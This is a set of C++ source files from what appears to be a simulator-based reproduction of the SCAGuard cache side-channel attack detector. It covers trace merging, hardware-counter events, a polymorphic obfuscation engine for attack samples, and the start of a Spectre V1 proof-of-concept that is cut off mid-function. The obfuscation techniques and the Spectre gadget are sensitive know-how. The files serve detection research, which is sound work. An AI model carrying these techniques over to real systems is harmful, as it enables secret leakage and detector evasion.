std::vector<std::vector<std::uint32_t>> paths_avoiding(
    const Digraph& g, std::uint32_t from, std::uint32_t to,
    const std::vector<bool>& blocked, const PathLimits& limits = {});

/// A weighted undirected edge for spanning-tree computation. `payload` is
/// an opaque index the caller uses to map selected edges back to paths.
struct WeightedEdge {
  std::uint32_t u = 0;
  std::uint32_t v = 0;
  double weight = 0.0;
  std::size_t payload = 0;
};

/// Kruskal maximum spanning forest: picks edges in decreasing weight,
/// skipping those that close a cycle. Returns indices into `edges`.
/// (The paper's Algorithm 1 step 4 computes a maximum spanning tree of the
/// pair-graph G'; a forest degenerates gracefully if G' is disconnected.)
std::vector<std::size_t> max_spanning_forest(
    std::size_t num_nodes, const std::vector<WeightedEdge>& edges);

}  // namespace scag::cfg
