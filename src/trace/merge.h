// Deterministic merge of per-spy execution traces into one cooperative
// trace. Multi-spy attacks (attacks/multi_spy_*.cpp) split one attack
// across 2..4 processes; the detector, like a system-wide profiler, sees
// the union of their behavior. merge_spy_traces() produces that union:
// one Program concatenating the rebased spy programs and one
// ExecutionProfile whose first-retirement cycles interleave the spies
// round-robin — spy k's local cycle c lands at merged cycle (c-1)*n + k,
// modeling n processes timesharing one core at per-cycle granularity.
// The merge is a pure function of its inputs (no clocks, no RNG), so the
// same spy runs always merge bit-identically.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "isa/program.h"
#include "trace/profile.h"

namespace scag::trace {

/// One spy's run: the program it executed and the profile collected from
/// that execution. Both must outlive the merge call; the result owns its
/// own copies.
struct SpyRun {
  const isa::Program* program = nullptr;
  const ExecutionProfile* profile = nullptr;
};

/// Merged cooperative trace.
struct MergedTrace {
  isa::Program program;
  ExecutionProfile profile;
};

/// Merged stored first-cycle of spy `spy_index` of `num_spies` for a local
/// stored first-cycle `fc` (both use the profile encoding: cycle + 1, 0 =
/// never executed). Round-robin: (fc-1)*n + k + 1.
inline std::uint64_t interleave_first_cycle(std::uint64_t fc,
                                            std::size_t spy_index,
                                            std::size_t num_spies) {
  if (fc == 0) return 0;
  return (fc - 1) * num_spies + spy_index + 1;
}

/// Merges the spy runs into one trace named `name`.
///
/// Program: segments are concatenated at the first spy's code base in spy
/// order; control-flow targets are rebased by each segment's delta, labels
/// are prefixed "spyK/", relevant marks and the entry point are rebased
/// (entry = spy 0's entry). Initial data images are merged first-spy-wins
/// (cooperating spies share the layout, so the images agree in practice).
///
/// Profile: per-instruction vectors are concatenated in segment order,
/// first-retirement cycles are interleaved per interleave_first_cycle(),
/// HPC totals / retired counts / SHARP alarms are summed, and exit is the
/// worst across spies. Whole-program sampling series are NOT merged
/// (samples/occupancy_samples cleared, sample_interval = 0): cumulative
/// snapshots of different address spaces have no meaningful union.
///
/// Throws std::invalid_argument on empty input, null pointers, or a
/// profile whose vectors do not match its program's size.
MergedTrace merge_spy_traces(const std::vector<SpyRun>& spies,
                             const std::string& name);

}  // namespace scag::trace
