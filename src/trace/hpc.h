// Hardware performance counter (HPC) events — Table I of the paper.
//
// The CPU interpreter raises these events while executing a program; the
// detector sums the 11 countable events per basic block to get the "HPC
// value" used for attack-relevant BB identification (Section III-A1). The
// 12th entry of Table I, the timestamp, is not a counter: it is carried
// per-record as the simulated cycle at which an instruction first retired.
#pragma once

#include <array>
#include <cstdint>
#include <string_view>

namespace scag::trace {

enum class HpcEvent : std::uint8_t {
  kL1dLoadMiss,   // L1 Data Cache Load Miss
  kL1dLoadHit,    // L1 Data Cache Load Hit
  kL1dStoreHit,   // L1 Data Cache Store Hit
  kL1iLoadMiss,   // L1 Instruction Cache Load Miss
  kLlcLoadMiss,   // LLC Load Miss
  kLlcLoadHit,    // LLC Load Hit
  kLlcStoreMiss,  // LLC Store Miss
  kLlcStoreHit,   // LLC Store Hit
  kBranchMiss,    // Branch Miss (misprediction)
  kBranchLoadMiss,// Branch Load Miss (BTB cold miss)
  kCacheMiss,     // Cache Miss (any access that goes to memory; clflush of
                  // a present line also counts — it forces the next miss)
  kCount,
};

inline constexpr std::size_t kNumHpcEvents =
    static_cast<std::size_t>(HpcEvent::kCount);

std::string_view hpc_event_name(HpcEvent e);

/// A bank of the 11 countable HPC events.
struct HpcCounters {
  std::array<std::uint64_t, kNumHpcEvents> counts{};

  std::uint64_t& operator[](HpcEvent e) {
    return counts[static_cast<std::size_t>(e)];
  }
  std::uint64_t operator[](HpcEvent e) const {
    return counts[static_cast<std::size_t>(e)];
  }

  void bump(HpcEvent e, std::uint64_t by = 1) {
    counts[static_cast<std::size_t>(e)] += by;
  }

  HpcCounters& operator+=(const HpcCounters& other) {
    for (std::size_t i = 0; i < kNumHpcEvents; ++i)
      counts[i] += other.counts[i];
    return *this;
  }

  /// Element-wise difference (for sampled time series deltas). Saturates at
  /// zero defensively; counters are monotone so this never triggers.
  HpcCounters delta_from(const HpcCounters& earlier) const {
    HpcCounters d;
    for (std::size_t i = 0; i < kNumHpcEvents; ++i)
      d.counts[i] =
          counts[i] >= earlier.counts[i] ? counts[i] - earlier.counts[i] : 0;
    return d;
  }

  /// Sum over all 11 events: the per-BB "HPC value" of Section III-A1.
  std::uint64_t total() const {
    std::uint64_t t = 0;
    for (std::uint64_t c : counts) t += c;
    return t;
  }

  bool operator==(const HpcCounters&) const = default;
};

}  // namespace scag::trace
