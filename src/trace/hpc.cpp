#include "trace/hpc.h"

namespace scag::trace {

std::string_view hpc_event_name(HpcEvent e) {
  switch (e) {
    case HpcEvent::kL1dLoadMiss: return "L1D Load Miss";
    case HpcEvent::kL1dLoadHit: return "L1D Load Hit";
    case HpcEvent::kL1dStoreHit: return "L1D Store Hit";
    case HpcEvent::kL1iLoadMiss: return "L1I Load Miss";
    case HpcEvent::kLlcLoadMiss: return "LLC Load Miss";
    case HpcEvent::kLlcLoadHit: return "LLC Load Hit";
    case HpcEvent::kLlcStoreMiss: return "LLC Store Miss";
    case HpcEvent::kLlcStoreHit: return "LLC Store Hit";
    case HpcEvent::kBranchMiss: return "Branch Miss";
    case HpcEvent::kBranchLoadMiss: return "Branch Load Miss";
    case HpcEvent::kCacheMiss: return "Cache Miss";
    case HpcEvent::kCount: break;
  }
  return "<bad-event>";
}

}  // namespace scag::trace
