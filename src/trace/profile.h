// ExecutionProfile: the runtime information SCAGuard's modeling stage
// consumes. It is our substitute for "perf-intel-pt + Intel PT" (paper
// Section III-A1): per-instruction HPC event counts, first-retirement
// timestamps, and the set of memory line addresses each instruction touched.
#pragma once

#include <cstdint>
#include <set>
#include <string>
#include <vector>

#include "isa/program.h"
#include "trace/hpc.h"

namespace scag::trace {

enum class ExitReason : std::uint8_t {
  kHalted,          // hlt, or ret from the outermost frame
  kInstrLimit,      // ran into the retired-instruction budget
  kBadInstruction,  // jumped outside the program / malformed state
};

std::string_view exit_reason_name(ExitReason r);

/// Aggregated per-instruction runtime profile of one execution.
/// All vectors are indexed by instruction index within the Program.
struct ExecutionProfile {
  /// Program this profile was collected from (by name, for diagnostics).
  std::string program_name;

  /// HPC events attributed per instruction. Events raised by transient
  /// (squashed) execution are attributed to the mispredicted branch, which
  /// is the retired instruction a sampling profiler would blame.
  std::vector<HpcCounters> per_instr;

  /// Cycle of first retirement + 1 (0 = instruction never executed).
  std::vector<std::uint64_t> first_cycle;

  /// Distinct cache-line-aligned data addresses touched per instruction
  /// (loads, stores, and flushed addresses — the paper explicitly includes
  /// flushed addresses in the "accessed memory addresses"). Architectural
  /// (retired) accesses only: this mirrors Intel PT, which records the
  /// retired instruction stream.
  std::vector<std::set<std::uint64_t>> line_addrs;

  /// Lines touched only by squashed (transient) execution, attributed to
  /// the mispredicted branch. Kept separate because an address trace based
  /// on retired instructions would not contain them; the cache events they
  /// raise ARE counted in per_instr (HPCs observe transient misses).
  std::vector<std::set<std::uint64_t>> transient_line_addrs;

  /// Periodic whole-program counter snapshots (for the HPC-time-series
  /// features of the ML baselines). samples[i] is the cumulative counter
  /// bank at cycle (i+1)*sample_interval.
  std::vector<HpcCounters> samples;
  std::uint64_t sample_interval = 0;

  /// LLC occupancy time series (paper Definition 3 observed live):
  /// (AO, IO) at each sampling point. Requires victim_ranges (or just
  /// attacker attribution) and a nonzero sample_interval.
  std::vector<std::pair<double, double>> occupancy_samples;

  HpcCounters totals;
  std::uint64_t cycles = 0;
  std::uint64_t retired = 0;
  ExitReason exit = ExitReason::kHalted;

  /// SHARP defense telemetry (cache::DefensePolicy::kSharp on the LLC):
  /// per-owner counts of forced foreign-owner evictions over the run.
  /// Always 0 when the run was undefended.
  std::uint64_t sharp_alarms_attacker = 0;
  std::uint64_t sharp_alarms_victim = 0;

  /// Prepares the per-instruction vectors for `n` instructions.
  void resize(std::size_t n) {
    per_instr.assign(n, {});
    first_cycle.assign(n, 0);
    line_addrs.assign(n, {});
    transient_line_addrs.assign(n, {});
  }

  /// Sum of the 11 HPC events of instruction `idx` ("HPC value").
  std::uint64_t hpc_value(std::size_t idx) const {
    return per_instr.at(idx).total();
  }

  /// True if the instruction retired at least once.
  bool executed(std::size_t idx) const { return first_cycle.at(idx) != 0; }
};

}  // namespace scag::trace
