#include "trace/merge.h"

#include <algorithm>
#include <stdexcept>

namespace scag::trace {

namespace {

/// Worse of two exit reasons: a merged trace is only cleanly halted if
/// every spy halted cleanly.
ExitReason worse_exit(ExitReason a, ExitReason b) {
  auto rank = [](ExitReason r) {
    switch (r) {
      case ExitReason::kHalted: return 0;
      case ExitReason::kInstrLimit: return 1;
      case ExitReason::kBadInstruction: return 2;
    }
    return 2;
  };
  return rank(a) >= rank(b) ? a : b;
}

}  // namespace

MergedTrace merge_spy_traces(const std::vector<SpyRun>& spies,
                             const std::string& name) {
  if (spies.empty())
    throw std::invalid_argument("merge_spy_traces: no spy runs");
  for (const SpyRun& s : spies) {
    if (s.program == nullptr || s.profile == nullptr)
      throw std::invalid_argument("merge_spy_traces: null spy run");
    const std::size_t n = s.program->size();
    if (s.profile->per_instr.size() != n ||
        s.profile->first_cycle.size() != n ||
        s.profile->line_addrs.size() != n ||
        s.profile->transient_line_addrs.size() != n)
      throw std::invalid_argument(
          "merge_spy_traces: profile does not match program size");
  }

  const std::size_t num_spies = spies.size();
  const std::uint64_t base = spies[0].program->code_base();

  MergedTrace out;
  out.program = isa::Program(name, base);

  std::size_t total = 0;
  for (const SpyRun& s : spies) total += s.program->size();
  out.profile.program_name = name;
  out.profile.resize(total);

  std::size_t at = 0;  // merged index of the current segment's start
  std::uint64_t max_cycles = 0;
  for (std::size_t k = 0; k < num_spies; ++k) {
    const isa::Program& prog = *spies[k].program;
    const ExecutionProfile& prof = *spies[k].profile;
    const std::uint64_t seg_base =
        base + static_cast<std::uint64_t>(at) * isa::kInstrSize;
    // Rebase delta of this segment; targets/labels/marks are absolute
    // addresses, so moving the segment means adding the delta.
    const std::uint64_t delta = seg_base - prog.code_base();

    for (std::size_t i = 0; i < prog.size(); ++i) {
      isa::Instruction insn = prog.at(i);
      if (insn.target != 0) insn.target += delta;
      out.program.append(insn);  // append() reassigns insn.address
    }
    const std::string prefix = "spy" + std::to_string(k) + "/";
    for (const auto& [label, addr] : prog.labels())
      out.program.labels()[prefix + label] = addr + delta;
    for (const std::uint64_t mark : prog.relevant_marks())
      out.program.relevant_marks().insert(mark + delta);
    // Shared layout: cooperating spies agree on the data image, so
    // first-spy-wins is a tie-break, not a policy.
    for (const auto& [addr, word] : prog.initial_data())
      out.program.initial_data().emplace(addr, word);
    if (k == 0) out.program.set_entry(prog.entry() + delta);

    for (std::size_t i = 0; i < prog.size(); ++i) {
      out.profile.per_instr[at + i] = prof.per_instr[i];
      out.profile.first_cycle[at + i] =
          interleave_first_cycle(prof.first_cycle[i], k, num_spies);
      out.profile.line_addrs[at + i] = prof.line_addrs[i];
      out.profile.transient_line_addrs[at + i] =
          prof.transient_line_addrs[i];
    }
    out.profile.totals += prof.totals;
    out.profile.retired += prof.retired;
    out.profile.sharp_alarms_attacker += prof.sharp_alarms_attacker;
    out.profile.sharp_alarms_victim += prof.sharp_alarms_victim;
    out.profile.exit = k == 0 ? prof.exit
                              : worse_exit(out.profile.exit, prof.exit);
    max_cycles = std::max(max_cycles, prof.cycles);
    at += prog.size();
  }

  // Round-robin interleave: the merged timeline is num_spies times the
  // longest spy timeline (idle tail slots of shorter spies included).
  out.profile.cycles = max_cycles * num_spies;
  return out;
}

}  // namespace scag::trace
