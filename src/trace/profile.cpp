#include "trace/profile.h"

namespace scag::trace {

std::string_view exit_reason_name(ExitReason r) {
  switch (r) {
    case ExitReason::kHalted: return "halted";
    case ExitReason::kInstrLimit: return "instruction-limit";
    case ExitReason::kBadInstruction: return "bad-instruction";
  }
  return "<bad-exit-reason>";
}

}  // namespace scag::trace
