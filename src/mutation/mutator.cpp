#include "mutation/mutator.h"

#include <algorithm>
#include <map>
#include <set>
#include <vector>

#include "isa/builder.h"

namespace scag::mutation {

using isa::Instruction;
using isa::MemRef;
using isa::Opcode;
using isa::Operand;
using isa::Program;
using isa::Reg;

namespace {

/// Mutable intermediate representation: instruction + target as an index.
struct MutInstr {
  Instruction insn;
  std::ptrdiff_t target_idx = -1;  // branch target as original index
  bool relevant = false;
  /// Junk inserted by this pass (never marked relevant, never mutated again).
  bool synthetic = false;
};

bool sets_flags(Opcode op) {
  switch (op) {
    case Opcode::kAdd: case Opcode::kSub: case Opcode::kImul:
    case Opcode::kXor: case Opcode::kAnd: case Opcode::kOr:
    case Opcode::kShl: case Opcode::kShr: case Opcode::kInc:
    case Opcode::kDec: case Opcode::kNeg: case Opcode::kNot:
    case Opcode::kCmp: case Opcode::kTest:
      return true;
    default:
      return false;
  }
}

/// True if the flags produced before position i may still be consumed at or
/// after i. Conservative: any control transfer before the next flag
/// definition counts as "live" (the flags may be consumed at the target).
bool flags_live_at(const std::vector<MutInstr>& code, std::size_t i) {
  for (std::size_t j = i; j < code.size(); ++j) {
    const Opcode op = code[j].insn.op;
    if (isa::is_cond_branch(op)) return true;
    if (sets_flags(op)) return false;
    if (isa::is_control_flow(op) || op == Opcode::kHlt) return true;
  }
  return false;
}

void collect_regs(const Operand& o, std::set<Reg>& out) {
  if (o.is_reg()) out.insert(o.reg);
  if (o.is_mem()) {
    if (o.mem.base != MemRef::kNoReg) out.insert(static_cast<Reg>(o.mem.base));
    if (o.mem.index != MemRef::kNoReg)
      out.insert(static_cast<Reg>(o.mem.index));
  }
}

/// Registers read by an instruction (approximate but conservative enough
/// for swap legality: we treat the destination register as read too for
/// read-modify-write opcodes, and always for mem operands).
void reg_uses(const Instruction& insn, std::set<Reg>& reads,
              std::set<Reg>& writes) {
  // Address registers of any mem operand are reads.
  collect_regs(insn.dst, reads);
  collect_regs(insn.src, reads);
  if (isa::writes_dst(insn.op) && insn.dst.is_reg()) {
    writes.insert(insn.dst.reg);
    if (insn.op == Opcode::kMov || insn.op == Opcode::kLea ||
        insn.op == Opcode::kPop || insn.op == Opcode::kRdtscp) {
      // Pure writes: the destination register value is not read.
      reads.erase(insn.dst.reg);
      // ...unless it also appears in the source operand (re-inserted above
      // by collect_regs on src / its own mem base).
      collect_regs(insn.src, reads);
      if (insn.dst.is_mem()) collect_regs(insn.dst, reads);
    }
  }
  if (insn.op == Opcode::kPush || insn.op == Opcode::kPop ||
      insn.op == Opcode::kCall || insn.op == Opcode::kRet) {
    reads.insert(Reg::RSP);
    writes.insert(Reg::RSP);
  }
}

bool touches_memory(const Instruction& insn) {
  return isa::accesses_cache(insn) || insn.op == Opcode::kClflush;
}

/// Legality of swapping code[i] and code[i+1].
bool can_swap(const std::vector<MutInstr>& code, std::size_t i) {
  const Instruction& a = code[i].insn;
  const Instruction& b = code[i + 1].insn;
  if (isa::is_control_flow(a.op) || isa::is_control_flow(b.op)) return false;
  if (a.op == Opcode::kHlt || b.op == Opcode::kHlt) return false;
  if (a.op == Opcode::kRdtscp || b.op == Opcode::kRdtscp) return false;
  if (touches_memory(a) && touches_memory(b)) return false;
  // Data dependencies.
  std::set<Reg> ra, wa, rb, wb;
  reg_uses(a, ra, wa);
  reg_uses(b, rb, wb);
  for (Reg r : wa)
    if (rb.count(r) || wb.count(r)) return false;
  for (Reg r : wb)
    if (ra.count(r)) return false;
  // Flag order: if both define flags, the final definition changes; only
  // allow when those flags are dead afterwards. A single definer moving by
  // one slot is harmless because the neighbor does not consume flags.
  if (sets_flags(a.op) && sets_flags(b.op) && flags_live_at(code, i + 2))
    return false;
  if (isa::is_cond_branch(b.op) || isa::is_cond_branch(a.op)) return false;
  return true;
}

/// Junk snippets that never set flags (safe anywhere).
/// Scratch registers for junk: anything but RSP (stack discipline).
Reg junk_scratch(Rng& rng) {
  static constexpr Reg kPool[] = {Reg::RAX, Reg::RBX, Reg::RCX, Reg::RDX,
                                  Reg::RSI, Reg::RDI, Reg::R13, Reg::R14};
  return kPool[rng.below(8)];
}

/// Allocates junk-load addresses: every snippet touches its own cache line
/// so junk never creates cross-block set sharing (but it does shift the HPC
/// profile, as real polymorphic junk with memory operands does).
struct JunkCtx {
  std::uint64_t next_line;
};

std::vector<Instruction> flagless_junk(Rng& rng, JunkCtx& ctx) {
  using isa::imm;
  using isa::mem;
  using isa::reg;
  (void)ctx;
  std::vector<Instruction> out;
  const Reg scratch = junk_scratch(rng);
  switch (rng.below(4)) {
    case 0:
      out.push_back({Opcode::kNop, {}, {}, 0, 0});
      out.push_back({Opcode::kNop, {}, {}, 0, 0});
      break;
    case 1:
      out.push_back({Opcode::kMov, reg(scratch), reg(scratch), 0, 0});
      break;
    case 2:
      out.push_back({Opcode::kNop, {}, {}, 0, 0});
      out.push_back({Opcode::kMov, reg(scratch), reg(scratch), 0, 0});
      break;
    default:
      // lea r, [r+0] : identity, no memory access, no flags.
      out.push_back({Opcode::kLea, reg(scratch), mem(scratch, 0), 0, 0});
      break;
  }
  return out;
}

/// Junk that may set flags (only inserted where flags are dead).
std::vector<Instruction> flagged_junk(Rng& rng, JunkCtx& ctx) {
  using isa::imm;
  using isa::mem_abs;
  using isa::reg;
  std::vector<Instruction> out;
  const Reg scratch = junk_scratch(rng);
  switch (rng.below(4)) {
    case 0:
      out.push_back({Opcode::kAdd, reg(scratch), imm(0), 0, 0});
      break;
    case 1:
      out.push_back({Opcode::kOr, reg(scratch), imm(0), 0, 0});
      break;
    case 2:
      // Double negation: net no-op, sets (dead) flags.
      out.push_back({Opcode::kNeg, reg(scratch), {}, 0, 0});
      out.push_back({Opcode::kNeg, reg(scratch), {}, 0, 0});
      break;
    default: {
      // Memory junk: reads a snippet-private line, clobbers only (dead)
      // flags. Perturbs the HPC profile the way real memory-operand junk
      // does without creating cross-block cache-set sharing.
      const std::uint64_t addr = ctx.next_line;
      ctx.next_line += 64;
      out.push_back({Opcode::kCmp, reg(scratch),
                     mem_abs(static_cast<std::int64_t>(addr)), 0, 0});
      break;
    }
  }
  return out;
}

void apply_reg_rename(std::vector<MutInstr>& code, Rng& rng) {
  // Permute a random subset of GP registers; RSP keeps stack semantics.
  std::vector<Reg> pool;
  for (std::size_t r = 0; r < isa::kNumRegs; ++r) {
    const Reg rr = static_cast<Reg>(r);
    if (rr != Reg::RSP) pool.push_back(rr);
  }
  std::vector<Reg> image = pool;
  rng.shuffle(image);
  std::map<Reg, Reg> perm;
  for (std::size_t i = 0; i < pool.size(); ++i) perm[pool[i]] = image[i];
  perm[Reg::RSP] = Reg::RSP;

  auto map_operand = [&perm](Operand& o) {
    if (o.is_reg()) o.reg = perm[o.reg];
    if (o.is_mem()) {
      if (o.mem.base != MemRef::kNoReg)
        o.mem.base = static_cast<int>(perm[static_cast<Reg>(o.mem.base)]);
      if (o.mem.index != MemRef::kNoReg)
        o.mem.index = static_cast<int>(perm[static_cast<Reg>(o.mem.index)]);
    }
  };
  for (MutInstr& mi : code) {
    map_operand(mi.insn.dst);
    map_operand(mi.insn.src);
  }
}

void apply_substitutions(std::vector<MutInstr>& code, Rng& rng,
                         double prob) {
  using isa::imm;
  for (std::size_t i = 0; i < code.size(); ++i) {
    MutInstr& mi = code[i];
    if (mi.synthetic || !rng.chance(prob)) continue;
    Instruction& insn = mi.insn;
    // inc r <-> add r, 1 and dec r <-> sub r, 1: the carry flag differs, so
    // require the flags to be dead... except for the ubiquitous
    // `dec; jne` loop idiom, where only ZF is consumed and both forms agree.
    const bool next_is_eq_branch =
        i + 1 < code.size() && (code[i + 1].insn.op == Opcode::kJe ||
                                code[i + 1].insn.op == Opcode::kJne);
    const bool flag_safe = !flags_live_at(code, i + 1) || next_is_eq_branch;
    if (insn.op == Opcode::kInc && insn.dst.is_reg() && flag_safe) {
      insn.op = Opcode::kAdd;
      insn.src = imm(1);
    } else if (insn.op == Opcode::kDec && insn.dst.is_reg() && flag_safe) {
      insn.op = Opcode::kSub;
      insn.src = imm(1);
    } else if (insn.op == Opcode::kAdd && insn.dst.is_reg() &&
               insn.src.is_imm() && insn.src.imm == 1 && flag_safe) {
      insn.op = Opcode::kInc;
      insn.src = Operand::none();
    } else if (insn.op == Opcode::kXor && insn.dst.is_reg() &&
               insn.src.is_reg() && insn.dst.reg == insn.src.reg &&
               !flags_live_at(code, i + 1)) {
      insn.op = Opcode::kMov;
      insn.src = imm(0);
    } else if (insn.op == Opcode::kMov && insn.dst.is_reg() &&
               insn.src.is_imm() && insn.src.imm == 0 &&
               !flags_live_at(code, i + 1)) {
      insn.op = Opcode::kXor;
      insn.src = Operand::of_reg(insn.dst.reg);
    } else if (insn.op == Opcode::kImul && insn.dst.is_reg() &&
               insn.src.is_imm() && insn.src.imm > 0 &&
               (insn.src.imm & (insn.src.imm - 1)) == 0 && flag_safe) {
      // imul r, 2^k -> shl r, k
      std::int64_t k = 0, v = insn.src.imm;
      while (v > 1) {
        v >>= 1;
        ++k;
      }
      insn.op = Opcode::kShl;
      insn.src = imm(k);
    }
  }
}

void apply_swaps(std::vector<MutInstr>& code, Rng& rng, double prob) {
  for (std::size_t i = 0; i + 1 < code.size(); ++i) {
    if (code[i].synthetic || code[i + 1].synthetic) continue;
    // Swapping moves branch targets' anchors: forbid if either position is
    // a branch target (checked by the caller via the anchor set).
    if (!rng.chance(prob)) continue;
    if (can_swap(code, i)) {
      std::swap(code[i], code[i + 1]);
      ++i;  // do not re-swap the same pair back
    }
  }
}

}  // namespace

MutationConfig obfuscation_preset() {
  MutationConfig config;
  config.reg_rename_prob = 1.0;
  config.subst_prob = 0.7;
  config.swap_prob = 0.35;
  config.junk_snippets = 16;
  config.dead_blocks = 8;
  return config;
}

isa::Program mutate(const isa::Program& program, Rng& rng,
                    const MutationConfig& config) {
  program.validate();

  // Lift to the mutable IR.
  std::vector<MutInstr> code;
  code.reserve(program.size());
  std::set<std::size_t> anchors;  // indices that are branch targets / entry
  anchors.insert(program.index_of(program.entry()));
  for (std::size_t i = 0; i < program.size(); ++i) {
    MutInstr mi;
    mi.insn = program.at(i);
    mi.relevant = program.relevant_marks().count(mi.insn.address) > 0;
    if (isa::is_control_flow(mi.insn.op) && mi.insn.op != Opcode::kRet) {
      mi.target_idx =
          static_cast<std::ptrdiff_t>(program.index_of(mi.insn.target));
      anchors.insert(static_cast<std::size_t>(mi.target_idx));
    }
    code.push_back(mi);
  }

  // Swaps must not move an anchored instruction (a branch target): extend
  // can_swap's veto by temporarily marking anchored slots synthetic.
  // (Simpler: run swaps first on a copy of the anchor set.)
  {
    std::vector<MutInstr> swapped = code;
    for (std::size_t i = 0; i + 1 < swapped.size(); ++i) {
      if (anchors.count(i) || anchors.count(i + 1)) continue;
      if (!rng.chance(config.swap_prob)) continue;
      if (can_swap(swapped, i)) {
        // Swapping payloads keeps indices (and thus targets) stable.
        std::swap(swapped[i], swapped[i + 1]);
        ++i;
      }
    }
    code = std::move(swapped);
  }

  apply_substitutions(code, rng, config.subst_prob);
  if (rng.chance(config.reg_rename_prob)) apply_reg_rename(code, rng);
  (void)apply_swaps;  // index-preserving variant used above

  // Insertion plan: junk scheduled *before* original index k keeps all
  // branch targets valid because labels are re-anchored to the original
  // instruction, not to the junk.
  JunkCtx junk_ctx{0xE000'0000ULL + (rng.below(0x1000'0000) & ~0x3fULL)};
  std::multimap<std::size_t, std::vector<Instruction>> insertions;
  std::uint32_t placed = 0, attempts = 0;
  while (placed < config.junk_snippets && attempts < 200) {
    ++attempts;
    const std::size_t pos = static_cast<std::size_t>(rng.below(code.size()));
    // Flags-setting junk requires dead flags at the insertion point.
    const bool want_flagged = rng.chance(0.6);
    if (want_flagged && flags_live_at(code, pos)) continue;
    insertions.emplace(pos, want_flagged ? flagged_junk(rng, junk_ctx)
                                         : flagless_junk(rng, junk_ctx));
    ++placed;
  }

  // Dead blocks: "jmp over" junk, creating extra basic blocks that never
  // execute. Placed before a random original instruction.
  std::multimap<std::size_t, std::vector<Instruction>> dead_blocks;
  for (std::uint32_t d = 0; d < config.dead_blocks; ++d) {
    const std::size_t pos = static_cast<std::size_t>(rng.below(code.size()));
    std::vector<Instruction> junk = flagged_junk(rng, junk_ctx);
    auto more = flagless_junk(rng, junk_ctx);
    junk.insert(junk.end(), more.begin(), more.end());
    dead_blocks.emplace(pos, std::move(junk));
  }

  // Re-emit through the builder.
  isa::ProgramBuilder b(program.name() + "+mut", program.code_base());
  for (const auto& [addr, value] : program.initial_data())
    b.data_word(addr, value);

  auto label_of = [](std::size_t idx) { return "L" + std::to_string(idx); };
  std::size_t dead_seq = 0;
  for (std::size_t i = 0; i < code.size(); ++i) {
    if (anchors.count(i)) b.label(label_of(i));
    // Dead blocks first (they sit between the label and... no: after the
    // label so control arriving at Li skips them via the jmp).
    auto [dlo, dhi] = dead_blocks.equal_range(i);
    for (auto it = dlo; it != dhi; ++it) {
      const std::string skip = "dead_skip_" + std::to_string(dead_seq++);
      b.branch(Opcode::kJmp, skip);
      for (const Instruction& j : it->second) b.emit(j.op, j.dst, j.src);
      b.label(skip);
    }
    auto [jlo, jhi] = insertions.equal_range(i);
    for (auto it = jlo; it != jhi; ++it)
      for (const Instruction& j : it->second) b.emit(j.op, j.dst, j.src);

    const MutInstr& mi = code[i];
    b.mark_relevant(mi.relevant);
    if (isa::is_control_flow(mi.insn.op) && mi.insn.op != Opcode::kRet) {
      b.branch(mi.insn.op, label_of(static_cast<std::size_t>(mi.target_idx)));
    } else {
      b.emit(mi.insn.op, mi.insn.dst, mi.insn.src);
    }
    b.mark_relevant(false);
  }
  b.entry(label_of(program.index_of(program.entry())));
  isa::Program out = b.build();
  return out;
}

isa::Program obfuscate(const isa::Program& program, Rng& rng) {
  MutationConfig config = obfuscation_preset();
  isa::Program out = mutate(program, rng, config);
  out.set_name(program.name() + "+obf");
  return out;
}

}  // namespace scag::mutation
