// Semantic-preserving code mutation and polymorphic obfuscation — the
// substitutes for mutate_cpp (dataset variant generation, Table II's 400
// mutants per attack type) and polymorph-lib (evaluation E4).
//
// All transformations preserve program behavior; in particular, mutated
// attack PoCs still recover the secret (tests assert this):
//   - consistent register renaming (RSP excluded)
//   - equivalence substitutions (inc <-> add 1, xor r,r <-> mov r,0, ...)
//     applied only where the changed flag effects are provably dead
//   - reordering of adjacent independent instructions
//   - executed junk insertion (nop sleds, reg self-moves, push/pop pairs)
//     at points where flags are provably dead
//   - dead-code blocks jumped over (jmp L; <junk>; L:) and never-taken
//     opaque branches, which add basic blocks without executing them
#pragma once

#include <cstdint>

#include "isa/program.h"
#include "support/rng.h"

namespace scag::mutation {

struct MutationConfig {
  /// Probability of applying a whole-program register permutation.
  double reg_rename_prob = 0.8;
  /// Per-eligible-site probability of an equivalence substitution.
  double subst_prob = 0.5;
  /// Per-adjacent-pair probability of swapping independent instructions.
  double swap_prob = 0.25;
  /// Number of executed junk snippets to insert at safe points.
  std::uint32_t junk_snippets = 4;
  /// Number of dead-code blocks (jumped over / never-taken branch).
  std::uint32_t dead_blocks = 2;
};

/// A heavier preset emulating polymorphic obfuscation: targets roughly
/// +70% basic blocks per sample (the paper reports +70.49% for E4).
MutationConfig obfuscation_preset();

/// Applies a randomized semantic-preserving mutation. The result validates
/// and carries remapped labels and ground-truth relevance marks.
isa::Program mutate(const isa::Program& program, Rng& rng,
                    const MutationConfig& config = {});

/// Convenience: mutate with the obfuscation preset.
isa::Program obfuscate(const isa::Program& program, Rng& rng);

}  // namespace scag::mutation
