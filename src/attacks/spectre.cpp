// Spectre V1 PoCs. The victim gadget bounds-checks an index into array1;
// the attacker trains the branch predictor with in-bounds calls, then
// passes an index that reaches the secret. The bounds check architecturally
// rejects it, but the mispredicted branch transiently executes the two
// dependent loads, leaving a secret-indexed line in the cache, which the
// attacker recovers with Flush+Reload (S-FR) or Prime+Probe (S-PP).
//
// The training index is 0, so probe slot 0 is polluted every round; the
// recovery scan therefore starts at slot 1 (the secret must be in 1..15,
// as with real Spectre PoCs that rotate training indices).
#include "attacks/registry.h"

#include "isa/builder.h"

namespace scag::attacks {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

constexpr int kWays = 16;
constexpr std::int64_t kArray1Entries = 8;

/// Index that makes &array1[x*8] alias the secret word (wraps mod 2^64).
std::int64_t malicious_index(const Layout& lay) {
  return static_cast<std::int64_t>(
      (lay.secret_addr - lay.array1) / 8);
}

/// The bounds-checked gadget. `probe_base` selects the array the transient
/// second load touches (shared_array for S-FR, victim_array for S-PP).
/// `masked` adds the "good"-gadget index masking.
void emit_gadget(ProgramBuilder& b, const Layout& lay,
                 std::uint64_t probe_base, bool masked) {
  b.label("gadget");
  b.mark_relevant(true);
  b.cmp(reg(Reg::RDI), mem_abs(static_cast<std::int64_t>(lay.array1_size_addr)));
  b.jae("gadget_end");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8, static_cast<std::int64_t>(lay.array1)));
  if (masked) b.and_(reg(Reg::RAX), imm(Layout::kNumSlots - 1));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
